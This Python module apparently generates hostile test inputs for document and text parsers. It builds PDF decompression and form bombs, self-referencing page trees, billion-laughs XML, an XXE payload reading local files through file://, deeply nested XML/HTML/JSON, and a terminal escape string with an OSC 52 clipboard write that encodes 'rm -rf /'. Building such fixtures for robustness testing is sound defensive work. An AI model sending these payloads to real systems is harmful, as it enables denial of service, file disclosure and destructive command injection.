"""Documents that attack their reader, made in code; each function returns the bytes of one."""

from __future__ import annotations

import itertools
import os
import random
import zlib


def pdf_of(objects: dict[int, bytes], root: int = 1) -> bytes:
    """A PDF of these objects with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n")
    places: dict[int, int] = {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    count = max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % count
    for number in range(1, count):
        out += b"%010d 00000 n \n" % places.get(number, 0)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (count, root, start)
    return bytes(out)


def stream(content: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(content), extra) + content + b"\nendstream"


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def page_pdf(content: bytes, extra: bytes = b"", more: dict[int, bytes] | None = None) -> bytes:
    """A PDF of one page with this content stream and the font /F."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R"
        b" /Resources << /Font << /F 5 0 R >> " + extra + b" >> >>",
        4: content if content.startswith(b"<<") else stream(content),
        5: FONT,
    }
    return pdf_of(objects | (more or {}))


def glyph_bomb(millions: int = 60) -> bytes:
    """About a kilobyte that draws so many million letters."""
    text = b"BT /F 1 Tf (" + b"x" * 1000 + b") Tj ET\n"
    inner = zlib.compress(text * (millions * 1000), 9)
    outer = zlib.compress(inner, 9)
    return page_pdf(stream(outer, b"/Filter [/FlateDecode /FlateDecode]"))


def form_bomb(levels: int = 9) -> bytes:
    """Forms that each draw the next one ten times: a thousand million letters in two kilobytes."""
    more: dict[int, bytes] = {}
    for level in range(levels):
        number = 10 + level
        last = level == levels - 1
        content = b"BT /F 9 Tf (x) Tj ET" if last else b"/X Do " * 10
        resources = b"/Font << /F 5 0 R >>" if last else b"/XObject << /X %d 0 R >>" % (number + 1)
        more[number] = stream(
            content, b"/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << " + resources + b" >>"
        )
    return page_pdf(b"/X Do " * 10, b"/XObject << /X 10 0 R >>", more)


def page_loop() -> bytes:
    """A page tree that contains itself."""
    return pdf_of(
        {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [2 0 R] /Count 2000000000 >>"}
    )


def many_pages() -> bytes:
    """Claims two thousand million pages and has one."""
    return pdf_of(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] >>",
        }
    )


def nested_states(depth: int = 200_000) -> bytes:
    """Saves the graphics state over and over."""
    return page_pdf(
        stream(zlib.compress(b"q " * depth + b"BT /F 9 Tf (deep) Tj ET"), b"/Filter /FlateDecode")
    )


def noise(size: int, seed: int = 1) -> bytes:
    """Random bytes, the same each time."""
    return random.Random(seed).randbytes(size)


def billion_laughs() -> bytes:
    lines = ['<?xml version="1.0"?>', "<!DOCTYPE lolz [", '<!ENTITY lol "lol">']
    names = ["lol", *(f"lol{level}" for level in range(1, 10))]
    for inner, outer in itertools.pairwise(names):
        lines.append(f'<!ENTITY {outer} "{f"&{inner};" * 10}">')
    return "\n".join([*lines, "]>", "<lolz>&lol9;</lolz>"]).encode()


def external_entity(path: str) -> bytes:
    doctype = f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{path}">]>'
    return f'<?xml version="1.0"?>{doctype}<a>before &x; after</a>'.encode()


def deep_xml(depth: int = 200_000) -> bytes:
    return b'<?xml version="1.0"?>' + b"<a>" * depth + b"innermost" + b"</a>" * depth


def deep_html(depth: int = 50_000) -> bytes:
    return b"<html><body>" + b"<div>" * depth + b"innermost words" + b"</div>" * depth


def deep_json(depth: int = 200_000) -> bytes:
    return b'{"a":' * depth + b'"innermost"' + b"}" * depth


def terminal_attack() -> bytes:
    """Text with sequences that terminals obey."""
    return (
        b"first line\n\x1b[2J\x1b[31mred\x1b[0m\n\x1b]52;c;cm0gLXJmIC8=\x07\n\x1b]8;;http://x\x07link"
        b"\x1b]8;;\x07\n"
        b"\xc2\x9b31mC1\n\xe2\x80\xae\xe2\x81\xa6bidi\xe2\x81\xa9\n"
        b"\xf3\xa0\x81\x81tag\x08\x08\x7f\nlast line\n"
    )


def sparse(path: str, size: int) -> None:
    """A file that claims `size` bytes and holds none."""
    with open(path, "wb") as file:
        os.truncate(file.fileno(), size)
